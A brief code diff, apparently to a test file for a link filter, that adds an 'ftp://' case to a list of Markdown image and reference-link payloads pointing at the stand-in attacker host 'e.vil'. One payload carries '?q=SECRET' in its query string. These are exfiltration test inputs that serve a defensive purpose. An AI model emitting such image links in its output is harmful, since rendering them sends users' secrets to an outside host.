@@ -71,7 +71,8 @@ def elsewhere(url: str) -> bool:
 
 IMAGES = [
     "![x](https://e.vil/?q=SECRET)", "![x]( https://e.vil/a )", "![x](<https://e.vil/a b>)",
-    "![x](//e.vil/a)", "![x](HTTPS://e.vil)", "![x](https://e.vil:8080/a)",
+    "![x](//e.vil/a)",
+    "![x](ftp://e.vil/a)", "![x](HTTPS://e.vil)", "![x](https://e.vil:8080/a)",
     "![a][b]\n\n[b]: https://e.vil/q",
     "[b]: https://e.vil/q\n\n![b]", "[b]: <https://e.vil/q>\n\n![x][b]",
     "[b]:\nhttps://e.vil/q\n\n![b][]",
